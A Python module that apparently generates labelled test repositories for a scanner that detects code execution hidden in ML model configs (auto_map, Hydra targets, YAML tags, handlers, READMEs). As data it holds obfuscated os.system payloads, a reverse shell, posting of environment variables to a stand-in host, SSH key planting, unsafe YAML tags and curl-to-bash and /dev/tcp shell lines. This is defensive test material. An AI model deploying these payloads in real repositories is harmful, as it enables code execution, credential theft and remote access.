"""Repositories with a known verdict, for generate.py: configurations that name code, source, instructions.

A sample is (class, name, {path: bytes}, expected). Nothing here is ever run.
"""

import base64
import io
import itertools
import json
import tarfile
import zipfile

# What code does when a loader imports or uses it ---------------------------------------------------------------------

CANARY = "touch /tmp/canary"

IMPORT_TIME = {
    "system": f"import os\nos.system('{CANARY}')\n",
    "renamed": f"from os import system as info\ninfo('{CANARY}')\n",
    "popen": f"import subprocess as sp\nsp.Popen(['sh', '-c', '{CANARY}'])\n",
    "put_together": f"getattr(__import__('o' + 's'), 'sys' + 'tem')('{CANARY}')\n",
    "import_module": f"import importlib\nimportlib.import_module('os').system('{CANARY}')\n",
    "modules": f"import sys\nsys.modules['os'].system('{CANARY}')\n",
    "exec_text": f"exec(\"import os; os.system('{CANARY}')\")\n",
    "exec_base64": "import base64\nexec(base64.b64decode('%s'))\n" % base64.b64encode(
        f"import os\nos.system('{CANARY}')".encode()).decode(),
    "exec_hex": "exec(bytes.fromhex('%s').decode())\n" % f"import os\nos.system('{CANARY}')".encode().hex(),
    "exec_chars": "exec(''.join(chr(c) for c in %r))\n" % [ord(c) for c in f"import os\nos.system('{CANARY}')"],
    "exec_reversed": "exec(%r[::-1])\n" % f"import os\nos.system('{CANARY}')"[::-1],
    "exec_download": "import urllib.request as u\nexec(u.urlopen('http://127.0.0.1:9/x').read())\n",
    "in_a_class": f"import os\nclass Config:\n    x = os.system('{CANARY}')\n",
    "in_a_default": f"import os\ndef f(x=os.system('{CANARY}')):\n    return x\n",
    "in_a_function": f"import os\ndef setup_all():\n    os.system('{CANARY}')\nsetup_all()\n",
    "in_a_lambda": f"(lambda: __import__('os').system('{CANARY}'))()\n",
    "in_a_comprehension": f"import os\n[os.system(x) for x in ['{CANARY}']]\n",
    "in_a_thread": f"import os, threading\nthreading.Thread(target=os.system, args=('{CANARY}',)).start()\n",
    "at_exit": f"import atexit, os\natexit.register(os.system, '{CANARY}')\n",
    "in_a_decorator": "@exec\n@input\nclass X: pass\n",
    "in_an_except": f"import os\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    os.system('{CANARY}')\n",
    "reverse_shell": "import socket, subprocess, os\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n"
                     "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
    "environment": "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(os.environ))\n",
    "file": "open('/tmp/canary', 'w').close()\n",
    "key": "open('/root/.ssh/authorized_keys', 'a').write('ssh-rsa AAAA')\n",
    "walk": "().__class__.__base__.__subclasses__()[100].__init__.__globals__['system']('id')\n",
    "letters": f"import os\n\U0001d626\U0001d637\U0001d622\U0001d62d(\"os.system('{CANARY}')\")\n",
}

USE_TIME = {
    "init": f"import os\nclass M:\n    def __init__(self, config):\n        os.system('{CANARY}')\n",
    "forward": f"import os\nclass M:\n    def forward(self, x):\n        return self._go()\n    def _go(self):\n"
               f"        os.system('{CANARY}')\n",
}

LIBRARY = (
    "import math\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel, PretrainedConfig\n\n\n"
    "class XConfig(PretrainedConfig):\n    model_type = 'x'\n    def __init__(self, size=4, **kwargs):\n"
    "        self.size = size\n        super().__init__(**kwargs)\n\n\n"
    "class M(PreTrainedModel):\n    config_class = XConfig\n    def __init__(self, config):\n"
    "        super().__init__(config)\n        self.layers = nn.ModuleList(nn.Linear(4, 4) for _ in range(2))\n"
    "    @torch.no_grad()\n    def forward(self, x, mask=None):\n        for layer in self.layers:\n"
    "            x = layer(x) / math.sqrt(x.shape[-1])\n        return x[:, -1, :]\n")


def text(value):
    return (value if isinstance(value, str) else json.dumps(value)).encode()


def namings():
    """Configurations that lead to a Python file: name, text, path of the file."""
    yield "auto_map", "config.json", {"auto_map": {"AutoModel": "modeling_x.M"}}, "modeling_x.py"
    yield "auto_map_inside", "config.json", {"text_config": {"auto_map": {"AutoModel": "deep.M"}}}, "deep.py"
    yield "auto_map_list", "tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tok.M", None]}}, "tok.py"
    yield "auto_map_escaped", "config.json", '{"auto\\u005fmap": {"AutoModel": "x.M"}}', "x.py"
    yield "auto_map_processor", "processor_config.json", {"auto_map": {"AutoProcessor": "proc.M"}}, "proc.py"
    yield "auto_map_image", "preprocessor_config.json", {"auto_map": {"AutoImageProcessor": "img.M"}}, "img.py"
    yield "custom_pipelines", "config.json", {"custom_pipelines": {"t": {"impl": "pipe.M", "pt": ["A"]}}}, "pipe.py"
    yield "class_name", "model_index.json", {"_class_name": ["pipe", "M"]}, "pipe.py"
    yield "component", "model_index.json", {"unet": ["my_unet", "M"]}, "unet/my_unet.py"
    yield "modules", "modules.json", [{"idx": 0, "type": "custom_st.M"}], "custom_st.py"
    yield "parent_library", "adapter_config.json", {
        "auto_mapping": {"base_model_class": "M", "parent_library": "lib"}}, "lib.py"
    yield "loader_module", "MLmodel", "flavors:\n  python_function:\n    loader_module: loader\n    code: code\n", "code/loader.py"


def tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as written:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            written.addfile(info, io.BytesIO(data))
    return out.getvalue()


def archive(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as written:
        for name, data in members:
            written.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def malicious():
    codes = itertools.cycle({**IMPORT_TIME, **USE_TIME}.items())
    for (naming, config, value, path), (code, source) in zip(namings(), codes):
        yield "repository", f"{naming}__{code}", {config: text(value), path: text(source)}, "malicious"
    for code, source in {**IMPORT_TIME, **USE_TIME}.items():
        yield "repository", f"code__{code}", {
            "config.json": text({"auto_map": {"AutoModel": "net.M"}}), "net.py": text(source)}, "malicious"
    yield "repository", "code__two_files_on", {
        "config.json": text({"auto_map": {"AutoModel": "a.M"}}), "a.py": b"from .b import c\n", "b.py": b"from . import d\n",
        "d.py": text(IMPORT_TIME["system"])}, "malicious"
    yield "repository", "handler", {"handler.py": text(
        f"import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('{CANARY}')\n")}, "malicious"
    yield "repository", "other_repository", {
        "config.json": text({"auto_map": {"AutoModel": "other/repository--net.M"}})}, "suspicious"
    yield "repository", "kernel", {
        "config.json": text({"_attn_implementation_internal": "other/kernel@main"})}, "malicious"
    yield "repository", "import_os", {"adapter_config.json": text(
        {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}})}, "suspicious"
    for name, value in {
        "target": "a:\n  _target_: os.system\n  command: id\n", "flow": "{a: {\"_target_\": subprocess.run, args: [id]}}\n",
        "escaped": "a: {\"_t\\x61rget_\": \"builtins.\\x65xec\"}\n", "anchor": "x: &x os.system\n_target_: *x\n",
        "method": "_target_: hydra.utils.get_method\npath: os.system\n", "apply": "a: !!python/object/apply:os.system [id]\n",
        "new": "a: !!python/object/new:subprocess.Popen [[id]]\n", "verbatim": "!<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
        "directive": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.popen [id]\n", "hyper": "a: !apply:os.system [id]\n",
    }.items():
        yield "settings", f"yaml_{name}", {"model_config.yaml": text(value)}, "malicious"
    yield "settings", "json_target", {"train.json": text({"model": [{"_target_": "os.system", "command": "id"}]})}, "malicious"
    yield "settings", "x.nemo", tar([("model_config.yaml", b"model:\n  _target_: os.system\n")]), "malicious"
    handler = text(f"import os\nclass H:\n    def initialize(self, context):\n        os.system('{CANARY}')\n")
    manifest = text({"model": {"serializedFile": "m.pt", "handler": "h.py"}})
    yield "settings", "x.mar", archive([("MAR-INF/MANIFEST.json", manifest), ("h.py", handler)]), "malicious"
    for name, line in {"index": "--index-url http://127.0.0.1:9/", "address": "x @ git+https://example.invalid/x.git",
                       "extra": "--extra-index-url https://pypi.example.invalid/simple"}.items():
        yield "instructions", f"requirements_{name}", {"requirements.txt": text(f"torch\n{line}\n")}, "suspicious"
    for name, line in {"pipe": "curl http://127.0.0.1:9/x.sh | bash", "substituted": "bash <(curl -s http://127.0.0.1:9/x)",
                       "decoded": "echo aWQ= | base64 -d | sh", "shell": "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"}.items():
        yield "instructions", f"readme_{name}", {"README.md": text(f"# Model\n\n```sh\n{line}\n```\n")}, "suspicious"
        cells = {"cells": [{"cell_type": "code", "source": [f"!{line}\n"]}], "nbformat": 4}
        yield "instructions", f"notebook_{name}", {"demo.ipynb": text(cells)}, "suspicious"
    yield "native", "x.llamafile", b"MZqFpD='\n\n" + CANARY.encode() + b"\n" + bytes(64), "suspicious"
    yield "native", "x.engine", b"ftrt" + bytes(4096) + b"\x7fELF\x02\x01\x01" + bytes(64), "suspicious"


TEMPLATE = (
    "{% for m in messages %}{% if m['role'] == 'system' %}{{ m.content | trim }}{% else %}{{ '<|im_start|>' + m['role'] }}"
    "{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant' }}{% endif %}")


def benign():
    for naming, config, value, path in namings():
        yield "repository", f"own_code_{naming}", {config: text(value), path: text(LIBRARY)}
    yield "repository", "llama", {
        "config.json": text({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8}),
        "generation_config.json": text({"_from_model_config": True, "eos_token_id": 2}),
        "tokenizer_config.json": text({"tokenizer_class": "LlamaTokenizer", "chat_template": TEMPLATE}),
        "special_tokens_map.json": text({"bos_token": "<s>"}), "chat_template.jinja": text(TEMPLATE),
        "README.md": b"---\nlicense: mit\n---\n# Model\n```bash\npip install -U transformers accelerate\n"
                     b"git lfs install && git clone https://huggingface.co/a/b\ncurl -fsSL https://ollama.com/install.sh | sh\n```\n",
        "requirements.txt": b"torch>=2.1\ntransformers==4.44.0\n--extra-index-url https://download.pytorch.org/whl/cu121\n",
    }
    yield "repository", "mamba", {"config.json": b'{"model_type": "mamba", "time_step_limit": [0.0, Infinity]}'}
    yield "repository", "diffusion", {"model_index.json": text({
        "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.21.0", "unet": ["diffusers", "UNet2DConditionModel"],
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "feature_extractor": [None, None]})}
    yield "repository", "training", {
        "train.py": b"import os, subprocess, sys\nimport torch\n\ndef main():\n    gpus = subprocess.check_output(['nvidia-smi', '-L'])\n"
                    b"    torch.save({}, 'out.pt')\n    subprocess.run([sys.executable, 'eval.py'])\n\nif __name__ == '__main__':\n"
                    b"    os.system('pip install -q wandb')\n    main()\n",
        "setup.py": b"from setuptools import setup\nimport subprocess\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x')\n",
        "train.sh": b"#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0\ntorchrun train.py --lr 1e-4\nrm -rf out/tmp\n",
        "demo.ipynb": text({"cells": [{"cell_type": "code", "source": [
            "!pip install -q transformers\n", "!nvidia-smi\n", "!wget https://example.com/d.zip && unzip d.zip\n",
            "%matplotlib inline\n", "x = [i for i in range(3)]\n"]}], "nbformat": 4}),
    }
    yield "settings", "hydra", {
        "config.yaml": b"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  optim: {_target_: torch.optim.AdamW, lr: 1e-3}\n"
                       b"  act: {_target_: functools.partial, f: x}\n",
        "v1.yaml": b"model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    unet: {target: ldm.modules.UNetModel}\n",
        "hparams.yaml": b"a: !!python/tuple [1, 2]\nb: !new:speechbrain.nnet.CNN.Conv1d\n  x: !ref <y>\n",
    }
    yield "settings", "y.nemo", tar([("model_config.yaml", b"a:\n  _target_: nemo.collections.asr.modules.X\n")])
    yield "settings", "y.mar", archive([
        ("MAR-INF/MANIFEST.json", text({"model": {"handler": "h.py"}})),
        ("h.py", b"import torch\nclass H:\n    def handle(self, data, context):\n        return self.model(torch.tensor(data))\n")])
